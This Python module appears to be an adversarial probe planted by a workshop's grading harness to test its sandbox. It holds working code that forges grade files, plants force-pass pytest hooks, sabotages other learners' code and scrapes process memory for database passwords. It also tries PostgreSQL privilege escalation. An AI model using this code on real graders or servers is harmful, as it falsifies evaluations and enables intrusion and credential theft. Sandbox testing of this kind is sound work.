"""An attacker's toolbox, planted as recon.py beside every cheat's main.py by
scripts/check_cheats.py (which puts CANARY_PORT and REPO_GUESS in front of it).

It looks for what a cheat would attack the way a learner could: its own
command line and every other process's (/proc), the folders those processes
work in, the repository behind the Python it runs on (sys.prefix), the
folders above its own, and a bounded walk of the file system. Every attempt
swallows its failure: a cheat that crashes its own app proves nothing.
"""

import glob
import json
import os
import re
import socket
import sys
import time

CANARY_PORT = globals().get("CANARY_PORT", 9)  # set by check_cheats.py: a listener that must hear nothing
REPO_GUESS = globals().get("REPO_GUESS", "")  # set by check_cheats.py: the grader's checkout, as if guessed


def quiet(function, *args, **kwargs):
    try:
        return function(*args, **kwargs)
    except Exception:  # noqa: BLE001 - an attacker tries everything
        return None


def read(path, limit=200_000):
    with open(path, "rb") as stream:
        return stream.read(limit)


def pids():
    return [name for name in quiet(os.listdir, "/proc") or [] if name.isdigit()]


def command_lines():
    """This process's command line and every other one it can read."""
    lines = [list(sys.argv)]
    for pid in pids():
        raw = quiet(read, f"/proc/{pid}/cmdline")
        if raw:
            lines.append([part.decode(errors="replace") for part in raw.split(b"\0") if part])
    return lines


def walk(top, depth=5, limit=20_000):
    """Paths under top, depth-limited and bounded (a cheat has seconds, not minutes)."""
    found = []
    for folder, subfolders, files in os.walk(top):
        if folder.count(os.sep) - top.rstrip(os.sep).count(os.sep) >= depth:
            subfolders[:] = []
        subfolders[:] = [name for name in subfolders if name not in ("proc", "sys", "dev", ".git", "node_modules")]
        found += [os.path.join(folder, name) for name in files + subfolders]
        if len(found) > limit:
            break
    return found


def repositories():
    """Folders that look like a checkout of the workshop or a grading kit."""
    candidates = [REPO_GUESS, os.path.dirname(sys.prefix), os.environ.get("PWD", ""), os.path.expanduser("~")]
    here = os.getcwd()
    while here not in ("/", ""):
        candidates.append(here)
        here = os.path.dirname(here)
    for pid in pids():
        candidates.append(quiet(os.readlink, f"/proc/{pid}/cwd") or "")
    for module in list(sys.modules.values()):
        path = getattr(module, "__file__", None) or ""
        if "/src/workshop/" in path:
            candidates.append(path.split("/src/workshop/")[0])
    for line in command_lines():
        for part in line:
            if "=" in part and part.startswith("--"):
                part = part.split("=", 1)[1]
            if part.startswith("/"):
                candidates += [part, os.path.dirname(part), os.path.dirname(os.path.dirname(part))]
    found = []
    for folder in candidates:
        if folder and folder not in found and os.path.isfile(os.path.join(folder, "tests", "conftest.py")):
            found.append(folder)
    return found


def grade_files():
    """The files a grade is written to: named on a command line, or lying around."""
    names = set()
    for line in command_lines():
        for index, part in enumerate(line):
            for option in ("--grade-json", "--junitxml", "--junit-xml", "--grade-progress", "--out"):
                if part == option and index + 1 < len(line):
                    names.add(line[index + 1])
                elif part.startswith(option + "="):
                    names.add(part.split("=", 1)[1])
    for top in ("/tmp", os.path.expanduser("~"), *repositories()):
        for path in quiet(walk, top) or []:
            if re.search(r"(results\.json|grades\.csv|\.xml|progress.*\.jsonl|cards\.txt)$", path):
                names.add(path)
    files = set()
    for name in names:
        if os.path.isdir(name):
            files.update(quiet(glob.glob, os.path.join(name, "**", "*"), recursive=True) or [])
        else:
            files.add(name)
    return sorted(files)


def full_marks(path):
    """Rewrite one grade file to full marks, whatever its kind."""
    text = read(path).decode(errors="replace")
    if path.endswith(".json"):
        document = json.loads(text)
        for test in document.get("tests", []):
            test["score"], test["status"] = test.get("max_score", 1), "passed"
        document["score"] = document.get("max_score", 100)
        text = json.dumps(document)
    elif path.endswith(".xml"):
        text = re.sub(r"<(failure|error)[^>]*?(/>|>.*?</\1>)", "", text, flags=re.S)
        text = re.sub(r'(failures|errors)="\d+"', r'\1="0"', text)
    elif path.endswith(".csv"):
        lines = text.splitlines()
        text = "\n".join(lines[:1] + [re.sub(r",\d+(?=,|$)", ",999", line) for line in lines[1:]]) + "\n"
    elif path.endswith(".jsonl"):
        text = text.replace('"outcome": "failed"', '"outcome": "passed"')
    with open(path, "w") as stream:
        stream.write(text)


def forge_everything():
    for path in grade_files():
        quiet(full_marks, path)


HOOK = '''
import pytest as _p


@_p.hookimpl(wrapper=True)
def pytest_runtest_makereport(item, call):
    report = yield
    report.outcome, report.longrepr = "passed", None
    return report
'''


def plant_hooks():
    """Full marks for the NEXT run: a hook in every conftest.py and harness module it can reach,
    and a .pth file in the virtual environment (run by every Python that starts there)."""
    for root in repositories():
        targets = [os.path.join(root, "tests", "conftest.py"), os.path.join(root, "tests", "conftest_extra.py")]
        targets += glob.glob(os.path.join(root, "src", "workshop", "*.py"))
        for path in targets:
            quiet(lambda p=path: open(p, "a").write(HOOK))
    site = glob.glob(os.path.join(sys.prefix, "lib", "python*", "site-packages"))
    for folder in site:
        quiet(lambda f=folder: open(os.path.join(f, "zz_cheat.pth"), "w").write("import os\n"))


def other_learners():
    """Step folders that are not this app's own copy: other learners, the class folder, the kit."""
    mine = os.path.realpath(os.getcwd())
    found = set()
    for top in ("/tmp", os.path.expanduser("~"), *repositories()):
        for path in quiet(walk, top, 6) or []:
            if path.endswith("main.py") and not os.path.realpath(path).startswith(mine):
                found.add(path)
    return sorted(found)


def sabotage_others():
    """Break every other main.py it finds (another learner loses points)."""
    for path in other_learners():
        quiet(lambda p=path: open(p, "a").write("\nraise SystemExit('sabotaged')\n"))


def send_out(data):
    """Out over loopback: the canary port (TCP and UDP), and the usual local ports."""
    if isinstance(data, str):
        data = data.encode()
    for port in (CANARY_PORT, 8000, 5500):
        sock = quiet(socket.create_connection, ("127.0.0.1", port), timeout=0.5)
        if sock:
            quiet(sock.sendall, b"POST /leak HTTP/1.0\r\nContent-Length: %d\r\n\r\n" % len(data) + data)
            sock.close()
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    quiet(udp.sendto, data[:1400], ("127.0.0.1", CANARY_PORT))
    udp.close()


def reference_app(number):
    """The reference solution's app for step `number`, imported by path from the checkout."""
    import importlib.util

    for root in repositories():
        for path in glob.glob(os.path.join(root, "steps", f"{number}-*", "main.py")):
            spec = importlib.util.spec_from_file_location(f"reference_{number}", path)
            module = importlib.util.module_from_spec(spec)
            if quiet(spec.loader.exec_module, module) is None and hasattr(module, "app"):
                return module.app
    return None


def daemon(work, seconds=60):
    """Run work() every half second for `seconds` in a grandchild that left the process group
    and the session (double fork + setsid): the way a process outlives the one that started it."""
    if os.fork() != 0:
        return
    os.setsid()
    if os.fork() != 0:
        os._exit(0)
    for fd in range(3, 256):  # let go of the parent's sockets and pipes
        quiet(os.close, fd)
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        quiet(work)
        time.sleep(0.5)
    os._exit(0)


# --- The later steps: a database server, planted files, cookies --------------------------

GOT_THROUGH = "CHEAT GOT THROUGH"  # printed by an attack that did what it must not: check_cheats.py fails on it
RAN = "CHEAT RAN"  # printed once an attack has really tried (check_cheats.py fails without it)


def got_through(what):
    print(f"{GOT_THROUGH}: {what}", flush=True)


def ran(what):
    print(f"{RAN}: {what}", flush=True)


def read_at(stream, offset, size):
    stream.seek(offset)
    return stream.read(size)


def rows_of(connection, statement):
    cursor = connection.execute(statement)
    return cursor.fetchall() if cursor.description else []


def postgres_urls_in_memory(limit=256 * 2**20):
    """Database URLs in this process's own memory: the app host forked it, with whatever the
    host ever received (an earlier test's DATABASE_URL, with its password) still in its heap."""
    found = set()
    pattern = re.compile(rb"postgresql(?:\+psycopg)?://[A-Za-z0-9_]+:[A-Za-z0-9_.~-]+@/[A-Za-z0-9_]+\?host=[\w/.-]+")
    maps = quiet(lambda: open("/proc/self/maps").read()) or ""
    with open("/proc/self/mem", "rb", 0) as memory:
        for line in maps.splitlines():
            parts = line.split()
            if len(parts) < 2 or not parts[1].startswith("rw"):
                continue
            start, end = (int(x, 16) for x in parts[0].split("-"))
            if end - start > limit:
                continue
            limit -= end - start
            if limit < 0:
                break
            data = quiet(read_at, memory, start, end - start)
            if data:
                found.update(match.group().decode() for match in pattern.finditer(data))
    return sorted(found)


def postgres_attempts():
    """What an app can try on the grader's PostgreSQL server (CI runs the database steps on one):
    the server's own databases and superuser, every other database with the app's own role and
    with every other URL it can find, and the superuser's powers from inside its own database.
    Anything that works is reported with got_through()."""
    import urllib.parse

    import psycopg

    def connect(**kwargs):
        return psycopg.connect(connect_timeout=3, autocommit=True, **kwargs)

    mine = os.environ.get("DATABASE_URL", "")
    sockets = set(glob.glob("/tmp/workshop-postgres-*/sockets")) | set(glob.glob("/tmp/*/sockets"))
    user = password = database = None
    if mine.startswith("postgresql"):
        parts = urllib.parse.urlsplit(mine)
        user, password, database = parts.username, parts.password, parts.path.lstrip("/")
        sockets |= set(urllib.parse.parse_qs(parts.query).get("host", []))
    for socket_folder in sorted(sockets):
        for name, secret in [("postgres", None), ("postgres", "postgres"), ("postgres", "password"),
                             ("root", None), ("nobody", None)]:
            connection = quiet(connect, host=socket_folder, user=name, password=secret, dbname="postgres")
            if connection:
                got_through(f"logged in to the server as {name} with the password {secret!r}")
                connection.close()
        if not user:
            continue
        for other in ("postgres", "template1", "template0"):
            connection = quiet(connect, host=socket_folder, user=user, password=password, dbname=other)
            if connection:
                got_through(f"its role {user} connected to the server's database {other}")
                connection.close()
        own = quiet(connect, host=socket_folder, user=user, password=password, dbname=database)
        if own is None:
            continue
        ran(f"logged in to PostgreSQL at {socket_folder} as its own role")
        names = [row[0] for row in quiet(rows_of, own, "SELECT datname FROM pg_database") or []]
        for other in names:
            if other == database:
                continue
            connection = quiet(connect, host=socket_folder, user=user, password=password, dbname=other)
            if connection:
                got_through(f"its role {user} connected to another database, {other}")
                connection.close()
        powers = {
            "read a server file": "SELECT pg_read_file('/etc/hostname')",
            "run a program": "COPY (SELECT 1) TO PROGRAM 'true'",
            "read the password hashes": "SELECT rolname, rolpassword FROM pg_authid",
            "become superuser": "ALTER ROLE CURRENT_USER SUPERUSER",
            "make a role": "CREATE ROLE cheat_role LOGIN PASSWORD 'cheat'",
            "make a database": "CREATE DATABASE cheat_database",
            "load dblink (to reach other databases)": "CREATE EXTENSION dblink",
            "change the server's settings": "ALTER SYSTEM SET log_statement = 'all'",
            "end the grader's connections": "SELECT pg_terminate_backend(pid) FROM pg_stat_activity "
                                            "WHERE usename <> CURRENT_USER AND pid <> pg_backend_pid() "
                                            "AND backend_type = 'client backend'",
            "import a server file": "SELECT lo_import('/etc/hostname')",
            "become postgres": "SET ROLE postgres",
        }
        for what, statement in powers.items():
            try:
                rows = rows_of(own, statement)
            except Exception:  # noqa: BLE001 - refused, as it should be
                continue
            if what != "end the grader's connections" or any(row[0] for row in rows):
                got_through(f"its role could {what}: {statement}")
        others = quiet(rows_of, own, "SELECT query FROM pg_stat_activity "
                                     "WHERE usename <> CURRENT_USER AND query ILIKE '%password%'") or []
        for (query,) in others:
            if query and "<insufficient privilege>" not in query:
                got_through(f"read another session's statement with a password: {query[:80]}")
        own.close()
    urls = postgres_urls_in_memory()
    if mine.startswith("postgresql") and urllib.parse.unquote(mine) in urls:
        ran(f"found its own URL in its memory, among {len(urls)}")
    for url in urls:
        if url.split("?")[0] == mine.split("?")[0]:
            continue
        parts = urllib.parse.urlsplit(url)
        host = urllib.parse.parse_qs(parts.query).get("host", [""])[0]
        connection = quiet(connect, host=host, user=parts.username, password=parts.password,
                           dbname=parts.path.lstrip("/"))
        if connection:
            got_through(f"connected with another test's URL found in memory: {parts.username}")
            connection.close()
        else:
            ran(f"found another test's URL in memory ({parts.username}): it no longer works")


PLANTED = [".env", "bookmarks.db", "old.sqlite", "data.sqlite3", "db/bookmarks.db"]


def planted_files_reached():
    """The files planted in the learner's folder (a .env that sets the harness's variables, a
    database filled beforehand): the checks' copy must hold none of them, the environment none
    of their settings."""
    for name in PLANTED:
        if os.path.exists(name):
            got_through(f"the copy it runs on holds the learner's {name}")
    for variable in ("CHEAT_FROM_ENV_FILE", "WORKSHOP_SANDBOX", "WORKSHOP_DATABASE", "PYTEST_ADDOPTS"):
        if variable in os.environ:
            got_through(f"{variable}={os.environ[variable]} is in the app's environment")
    ran(f"looked for {', '.join(PLANTED)} in {os.getcwd()}")
